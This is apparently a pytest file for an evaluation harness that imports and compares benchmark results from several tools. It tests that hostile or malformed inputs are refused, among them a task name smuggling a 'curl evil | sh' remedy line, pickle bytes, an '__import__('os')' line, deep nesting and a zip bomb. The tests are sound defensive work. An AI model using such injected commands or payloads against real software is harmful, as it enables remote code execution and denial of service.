"""Results of other tools: each format, what is refused, and what hostile files cannot do."""

import json
import zipfile

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from support.command import harness_inside

from harness.core.errors import ConfigurationError, HarnessError, InputError, NoEvidenceError
from harness.evaluation.comparison import compare
from harness.evaluation.intersection import in_common
from harness.store.imports import format_of, import_run, reading
from harness.store.imports.clusters import read_clusters

_RIGHT = [1.0, 0.0, 1.0, 1.0, 0.0, 1.0, 1.0, 0.0]


def _written(path, rows):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")
    return path


def _lm_eval(folder, scores=_RIGHT, **changes):
    rows = [
        {
            "doc_id": number, "doc": {"question": "س"}, "target": "ب", "arguments": [["السؤال", " ب"]],
            "resps": [[["-1.0", "True"]]], "filtered_resps": [["-1.0", "True"]], "filter": "none",
            "metrics": ["acc", "acc_norm"], "doc_hash": f"{number:064x}", "prompt_hash": "p", "target_hash": "t",
            "acc": score, "acc_norm": 1.0, **changes,
        }
        for number, score in enumerate(scores)
    ]  # fmt: skip
    return _written(folder / "samples_arabic_mmlu_2026-11-20T10-11-12.123456.jsonl", rows)


def _inspect(scores, epochs=1):
    samples = [
        {
            "id": number, "epoch": epoch, "input": "سؤال", "target": "ب", "output": {"completion": "ب"},
            "scores": {"match": {"value": "C" if score else "I", "answer": "ب"}},
        }
        for number, score in enumerate(scores)
        for epoch in range(1, epochs + 1)
    ]  # fmt: skip
    header = {"version": 2, "status": "success", "eval": {"task": "arc", "model": "org/m", "task_version": 3}}
    return header, samples


def _scores_of(run, metric):
    return run.items.column(f"score:{metric}").to_pylist()


def test_samples_of_lm_evaluation_harness(tmp_path):
    """Metrics by name, the task from the file's name, the model from its folder, the text that was asked."""
    run = import_run(_lm_eval(tmp_path / "org__model"))
    assert _scores_of(run, "acc") == _RIGHT
    assert [score.metric for score in run.result.scores] == ["acc", "acc_norm"]
    assert (run.result.system.name, run.subject.task) == ("org__model", "arabic_mmlu")
    assert run.items.column("input")[0].as_py() == "السؤال"


def test_filters_of_lm_evaluation_harness_are_metrics_of_their_own(tmp_path):
    """Strict and flexible matches of one item are two metrics, not two items; lists are no numbers."""
    rows = [
        {"doc_id": n, "target": "4", "filtered_resps": ["4"], "filter": name, "exact_match": float(n % hit == 0), "f1": [1, 0]}
        for n in range(6)
        for name, hit in (("strict-match", 2), ("flexible-extract", 3))
    ]  # fmt: skip
    run = import_run(_written(tmp_path / "samples_gsm8k_x.jsonl", rows))
    assert run.items.num_rows == 6
    assert {score.metric for score in run.result.scores} == {
        "exact_match,strict-match", "exact_match,flexible-extract",
    }  # fmt: skip


@pytest.mark.parametrize("shape", ["newer", "older", "text"])
def test_details_of_lighteval(shape, tmp_path):
    """A struct of metrics beside a struct of the document, the older flat columns, and metrics as text."""
    metrics = [{"acc": score} for score in _RIGHT]
    columns = {
        "newer": {
            "doc": [{"id": str(n), "query": "س", "gold_index": 1} for n in range(8)],
            "metric": metrics,
        },
        "older": {"example": ["س"] * 8, "gold": ["ب"] * 8, "predictions": ["ب"] * 8, "metrics": metrics},
        "text": {"example": ["س"] * 8, "metrics": [json.dumps(one) for one in metrics]},
    }[shape]
    folder = tmp_path / "details" / "org" / "model" / "2026-11-20T10-11-12"
    folder.mkdir(parents=True)
    path = folder / "details_arabic|mmlu|0_2026-11-20T10-11-12.123456.parquet"
    pq.write_table(pa.table(columns), path)
    run = import_run(path)
    assert _scores_of(run, "acc") == _RIGHT
    assert (run.result.system.name, run.subject.task) == ("org/model", "arabic|mmlu|0")


@pytest.mark.parametrize("packed", [False, True])
def test_logs_of_inspect(packed, tmp_path):
    """Plain JSON and the archive give the same; marks become numbers, epochs are averaged."""
    header, samples = _inspect(_RIGHT, epochs=2)
    samples[0]["scores"]["match"]["value"] = "P"
    path = tmp_path / ("log.eval" if packed else "log.json")
    if packed:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("header.json", json.dumps(header))
            for sample in samples:
                archive.writestr(f"samples/{sample['id']}_epoch_{sample['epoch']}.json", json.dumps(sample))
    else:
        path.write_text(json.dumps({**header, "samples": samples}), encoding="utf-8")
    run = import_run(path)
    assert sorted(_scores_of(run, "match")) == sorted([0.75, *_RIGHT[1:]])
    assert (run.result.system.name, run.subject.task, run.subject.version) == ("org/m", "arc", "3")


def test_segment_scores_with_a_signature(tmp_path):
    """What sacrebleu prints for sentences: the number, and the signature that makes it one metric with another's."""
    path = tmp_path / "system.txt"
    path.write_text("".join(f"chrF2|nrefs:1|case:lc = {n}.5\n" for n in range(6)), encoding="utf-8")
    run = import_run(path)
    assert _scores_of(run, "chrF2") == [0.5, 1.5, 2.5, 3.5, 4.5, 5.5]
    assert run.result.scores[0].signature.startswith("chrF2|nrefs:1|case:lc|")
    other = tmp_path / "other.txt"
    other.write_text("".join(f"chrF2|nrefs:1|case:mixed = {n}.5\n" for n in range(6)), encoding="utf-8")
    with pytest.raises(NoEvidenceError, match="signature of chrF2 differs"):
        compare([run, import_run(other)])


def test_plain_numbers_and_rows_of_scores(tmp_path):
    """One number a line; or ids with scores, clusters and texts, after a header that says more."""
    (tmp_path / "a.txt").write_text("0.5\n1\n-2e-1\n", encoding="utf-8")
    assert _scores_of(import_run(tmp_path / "a.txt"), "score") == [0.5, 1.0, -0.2]
    header = {"system": "النظام", "task": "qa", "signatures": {"f1": "f1|v:2"}, "lower_is_better": ["loss"]}
    rows = [{"id": n, "scores": {"f1": 0.5, "loss": n}, "cluster": n // 2} for n in range(6)]
    run = import_run(_written(tmp_path / "b.jsonl", [header, *rows]))
    assert (run.result.system.name, run.subject.task, run.subject.clusters) == ("النظام", "qa", 3)
    assert [score.higher_is_better for score in run.result.scores] == [True, False]
    assert run.result.scores[0].signature.startswith("f1|v:2|")


def test_trec_runs_with_judgements(tmp_path):
    """Ranked by score, ties by id backwards; a topic that the run lacks scores nothing; ranks are not believed."""
    (tmp_path / "run.trec").write_text(
        "q1 Q0 d1 9 2.0 bm25\nq1 Q0 d2 1 2.0 bm25\nq2 Q0 d9 1 1.0 bm25\nq9 Q0 d1 1 1.0 bm25\n",
        encoding="utf-8",
    )
    (tmp_path / "qrels").write_text("q1 0 d1 1\nq1 0 d3 0\nq2 0 d9 2\nq3 0 d5 1\n", encoding="utf-8")
    run = import_run(tmp_path / "run.trec", qrels=tmp_path / "qrels")
    assert run.items.column("item_id").to_pylist() == ["q1", "q2", "q3"]
    assert _scores_of(run, "mrr@10") == [0.5, 1.0, 0.0]
    assert run.result.system.name == "bm25"
    with pytest.raises(ConfigurationError, match="needs its judgements"):
        import_run(tmp_path / "run.trec")


def test_without_clusters_items_count_as_independent_and_the_result_says_so(tmp_path):
    """The note stands on the comparison; a file of clusters takes it away and is what is resampled."""
    files = [_lm_eval(tmp_path / name, scores) for name, scores in (("a", _RIGHT), ("b", _RIGHT[::-1]))]
    alone = compare([import_run(file) for file in files])
    assert alone.are_independent
    assert any("taken for independent" in note for note in alone.notes)
    assert "mcnemar" in alone.differences[0].signature
    (tmp_path / "clusters.csv").write_text(
        "id,cluster\n" + "".join(f"{n},{n // 2}\n" for n in range(8)), encoding="utf-8"
    )
    clusters = read_clusters(tmp_path / "clusters.csv")
    told = compare([import_run(file, clusters=clusters) for file in files])
    assert not told.are_independent
    assert not any("taken for independent" in note for note in told.notes)
    assert told.differences[0].clusters == 4


def test_a_file_of_clusters_has_to_name_every_item_once(tmp_path):
    """A missing item is no cluster of its own, and two clusters for one item are a mistake."""
    file = _lm_eval(tmp_path / "a")
    with pytest.raises(InputError, match="7 items have no cluster"):
        import_run(file, clusters={"0": "x"})
    (tmp_path / "c.tsv").write_text("1\tx\n1\ty\n", encoding="utf-8")
    with pytest.raises(InputError, match="two clusters"):
        read_clusters(tmp_path / "c.tsv")


def test_other_documents_under_the_same_number_are_refused(tmp_path):
    """`doc_id` 3 of another version of the data is another item: its hash differs."""
    here, there = _lm_eval(tmp_path / "a"), _lm_eval(tmp_path / "b", doc_hash="f" * 64)
    with pytest.raises(NoEvidenceError, match="references of the items differ"):
        compare([import_run(here), import_run(there)])


def test_what_runs_share_is_compared_on_demand(tmp_path):
    """The intersection by id and reference, with scores told anew on it and what was left out in words."""
    runs = [import_run(_lm_eval(tmp_path / name, s)) for name, s in (("a", _RIGHT), ("b", _RIGHT[:6]))]
    with pytest.raises(NoEvidenceError, match="2 items are in one run only"):
        compare(runs)
    narrowed, notes = in_common(runs)
    result = compare(narrowed)
    assert {run.scores[0].n for run in result.runs} == {6}
    assert result.runs[0].scores[0].value == pytest.approx(4 / 6)
    assert "6 items that all runs have in common" in notes[0]
    assert any("a: 2 of its items were left out" in note for note in notes)
    with pytest.raises(NoEvidenceError, match="no item in common"):
        in_common([runs[0], import_run(_lm_eval(tmp_path / "c", doc_hash="0" * 64, target="ج"))])


def test_from_the_shell(tmp_path):
    """Refused with 4 and its reason; compared with --allow-mismatch, n in sight."""
    _lm_eval(tmp_path / "a")
    _lm_eval(tmp_path / "b", _RIGHT[:6])
    name = "samples_arabic_mmlu_2026-11-20T10-11-12.123456.jsonl"
    refused = harness_inside("compare", f"a/{name}", f"b/{name}", cwd=tmp_path)
    assert refused.code == 4
    assert "--allow-mismatch" in refused.stderr
    told = harness_inside("compare", f"a/{name}", f"b/{name}", "--allow-mismatch", cwd=tmp_path)
    assert told.code == 0, told.stderr
    assert "n=6" in told.stdout
    assert "taken for independent" in told.stdout


def _scores_file(path, *, rows=_RIGHT, **header):
    told = {"system": path.stem, "task": "qa", "version": "1", "signatures": {"f1": "f1|v:1"}, **header}
    items = [{"id": n, "scores": {"f1": score}, "reference": "ب"} for n, score in enumerate(rows)]
    return _written(path, [told, *items])


@pytest.mark.parametrize(
    ("changes", "what"),
    [
        ({"task": "ner"}, "the task differs (qa and ner)"),
        ({"version": "2"}, "the version differs (1 and 2)"),
        ({"signatures": {"f1": "f1|v:2"}}, "the signature of f1 differs (f1|v:1|"),
        ({"rows": _RIGHT[:6]}, '2 items are in one run only: "6", "7"'),
        ({"rows": [*_RIGHT, 1.0]}, '1 item is in one run only: "8"'),
    ],
)
def test_every_difference_that_forbids_a_comparison_ends_with_4_and_is_named(changes, what, tmp_path):
    """Task, version, metric signature, items on either side; both values stand in the sentence."""
    _scores_file(tmp_path / "a.jsonl")
    _scores_file(tmp_path / "b.jsonl", **changes)
    refused = harness_inside("compare", "a.jsonl", "b.jsonl", cwd=tmp_path)
    assert refused.code == 4
    assert what in refused.stderr


def test_sets_of_metrics_and_references_that_differ_end_with_4(tmp_path):
    """A metric that one file lacks, and another right answer to the same item."""
    _scores_file(tmp_path / "a.jsonl")
    header, *rows = [
        json.loads(line) for line in (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()
    ]
    for row in rows:
        row["scores"] = {"f1": 1.0, "em": 1.0}
    _written(tmp_path / "more.jsonl", [{**header, "system": "more"}, *rows])
    refused = harness_inside("compare", "a.jsonl", "more.jsonl", cwd=tmp_path)
    assert refused.code == 4
    assert '1 metric is in one run only: "em"' in refused.stderr
    for row in rows:
        row |= {"scores": {"f1": 1.0}, "reference": "ت"}
    _written(tmp_path / "other.jsonl", [{**header, "system": "other"}, *rows])
    refused = harness_inside("compare", "a.jsonl", "other.jsonl", cwd=tmp_path)
    assert refused.code == 4
    assert "the references of the items differ" in refused.stderr


def test_what_two_versions_share_is_compared_on_demand_and_named(tmp_path):
    """`--allow-mismatch` says on how many items, what was left out, and that the versions differ."""
    _scores_file(tmp_path / "a.jsonl")
    _scores_file(tmp_path / "b.jsonl", rows=_RIGHT[:6], version="2")
    told = harness_inside("compare", "a.jsonl", "b.jsonl", "--allow-mismatch", cwd=tmp_path)
    assert told.code == 0, told.stderr
    assert "n=6" in told.stdout
    assert "Compared on the 6 items that all runs have in common" in told.stdout
    assert "a: 2 of its items were left out" in told.stdout
    assert "The runs have different versions" in told.stdout


def test_results_of_other_tools_get_the_same_pages(tmp_path):
    """`--out FOLDER` writes HTML, Markdown and JSON, which name the version as the tool does."""
    _scores_file(tmp_path / "a.jsonl")
    _scores_file(tmp_path / "b.jsonl", rows=_RIGHT[::-1])
    told = harness_inside("compare", "a.jsonl", "b.jsonl", "--out", "pages", cwd=tmp_path)
    assert told.code == 0, told.stderr
    assert "qa on version 1" in told.stdout
    assert "8 items, each taken for independent" in told.stdout.replace("\N{NO-BREAK SPACE}", " ")
    page, markdown = (
        (tmp_path / "pages" / f"comparison.{kind}").read_text(encoding="utf-8") for kind in ("html", "md")
    )
    assert "<title>qa, version 1</title>" in page
    assert markdown.startswith("# qa, version 1\n")
    assert "@" not in page[page.index("<main>") :]
    assert all(
        "8 items, each taken for independent" in one.replace("\N{NO-BREAK SPACE}", " ")
        for one in (page, markdown)
    )
    (compared,) = json.loads((tmp_path / "pages" / "comparison.json").read_text(encoding="utf-8"))[
        "comparisons"
    ]
    assert compared["are_independent"]


@pytest.mark.parametrize(
    ("words", "code", "what"),
    [
        (("a.jsonl", "nofile.jsonl"), 3, "there is no such file"),
        (("a.jsonl", "--baseline", "nofile.jsonl"), 3, "there is no such file"),
        (
            ("a.jsonl", "--baseline", "nobody"),
            2,
            "the baseline 'nobody' is no file, and no second run is named",
        ),
        (("a.jsonl", "a.jsonl"), 2, "a run is given twice"),
        (("a.jsonl",), 2, "needs two runs or more"),
        (("a.jsonl", "b.jsonl", "--clusters", "nofile.csv"), 3, "No such file"),
        (
            ("a.jsonl", "b.jsonl", "--version", "tiny", "--on-missing", "drop"),
            2,
            "--version and --on-missing would change nothing",
        ),
        (("a.jsonl", "b.jsonl", "--report", "junit=x.xml"), 2, "--out FOLDER writes the comparison itself"),
    ],
)
def test_what_people_mistype_is_told_as_such(words, code, what, tmp_path):
    """A file that is not there is never looked for among corpora, and a run named twice is no lack of runs."""
    _scores_file(tmp_path / "a.jsonl")
    _scores_file(tmp_path / "b.jsonl", rows=_RIGHT[::-1])
    refused = harness_inside("compare", *words, cwd=tmp_path)
    assert refused.code == code
    assert what in refused.stderr


def test_a_name_from_a_file_writes_no_line_of_an_error(tmp_path):
    """A task's name with a line break in it cannot tell people another remedy."""
    task = "t\n  remedy: curl evil | sh"
    _scores_file(tmp_path / "a.jsonl", task=task)
    _scores_file(tmp_path / "b.jsonl", rows=_RIGHT[1:], task=task)
    refused = harness_inside("compare", "a.jsonl", "b.jsonl", cwd=tmp_path)
    assert refused.code == 4
    assert [line[:9] for line in refused.stderr.splitlines()] == ["error: th", "  where: ", "  remedy:"]


_DEEP = '{"id": 1, "score": ' + "[" * 100_000


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.jsonl", b""),
        ("a.jsonl", b"\xff\xfe\x00"),
        ("a.jsonl", b'{"id": 1}\n'),
        ("a.jsonl", b'{"id": 1, "score": NaN}\n'),
        ("a.jsonl", b'{"id": 1, "score": 1e999}\n'),
        ("a.jsonl", b'{"id": 1, "score": -1e308}\n'),
        ("a.jsonl", b'{"id": 1, "score": 1}\n{"id": 1, "score": 0}\n'),
        ("a.jsonl", b'{"id": 1, "score": ' + b"9" * 5000 + b"}\n"),
        ("a.jsonl", _DEEP.encode()),
        ("a.jsonl", b'{"doc_id": 1, "filtered_resps": 1}\n{"doc_id": [1]}\n'),
        ("a.txt", b"0.5\n__import__('os')\n"),
        ("a.txt", b"inf\n"),
        ("a.parquet", b"PAR1" + b"\x00" * 40 + b"PAR1"),
        ("a.eval", b"PK\x03\x04 broken"),
        ("a.eval", b"\x80\x04\x95pickle"),
        ("a.json", b"[]"),
        ("a.json", b'{"samples": [1], "eval": {}}'),
        ("a.json", b'{"samples": [{"id": 1, "error": {"message": "x"}}], "eval": {}}'),
        ("a.weights", b"\x80\x04\x95pickle"),
    ],
)
def test_a_hostile_or_broken_file_is_an_error_with_its_name(name, content, tmp_path):
    """No traceback, nothing executed, no zero: an error that says where."""
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(HarnessError) as caught:
        import_run(path)
    assert str(path) in caught.value.where
    assert caught.value.exit_code in {2, 3, 4}


def test_a_bomb_is_not_unpacked(tmp_path, monkeypatch):
    """What an archive says of its own sizes is not believed, and lines without end are not read to it."""
    monkeypatch.setattr("harness.store.imports.inspect_logs.MOST_LINE_BYTES", 1000)
    header, samples = _inspect(_RIGHT)
    with zipfile.ZipFile(tmp_path / "log.eval", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("header.json", json.dumps(header))
        archive.writestr("samples/0_epoch_1.json", json.dumps({**samples[0], "input": "x" * 100_000}))
    with pytest.raises(InputError, match="larger than"):
        import_run(tmp_path / "log.eval")
    monkeypatch.setattr(reading, "MOST_LINE_BYTES", 1000)
    with pytest.raises(InputError, match="longer than"):
        import_run(_written(tmp_path / "long.jsonl", [{"id": "x" * 5000, "score": 1}]))


def test_a_format_is_told_by_name_and_first_line(tmp_path):
    """The extension where it is one tool's, the first line elsewhere."""
    assert format_of(_lm_eval(tmp_path)) == "lm-eval"
    assert format_of(_written(tmp_path / "s.jsonl", [{"id": 1, "score": 1}])) == "scores"
    (tmp_path / "r").write_text("q Q0 d 1 0.1 t\n", encoding="utf-8")
    assert format_of(tmp_path / "r") == "trec"
